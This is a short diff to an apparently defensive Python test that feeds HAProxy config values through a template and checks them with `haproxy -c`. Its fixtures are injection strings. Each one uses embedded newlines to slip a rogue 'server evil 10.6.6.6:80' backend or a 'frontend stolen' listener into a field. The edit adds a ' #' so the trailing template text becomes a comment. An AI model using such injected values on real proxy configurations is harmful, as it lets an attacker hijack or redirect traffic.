@@ -62,7 +62,8 @@ def said(proc: subprocess.CompletedProcess, text: str) -> bool:
 
 # What each value added, accepted by `haproxy -c` (the lines after it still parse).
 BEFORE = {
-    "gateway_check_path": ("/health\n    server evil 10.6.6.6:80", "server evil"),
+    # (` #`: what the template adds after the path, the check's headers, becomes a comment)
+    "gateway_check_path": ("/health\n    server evil 10.6.6.6:80 #", "server evil"),
     "gateway_slowstart": ("10s\n    server evil 10.6.6.6:80", "server evil"),
     "gateway_timeout_client": ("10m\nfrontend stolen\n    bind 127.0.0.1:9999\n"
                                "    default_backend onecat_nodes\ndefaults\n    mode http\n"
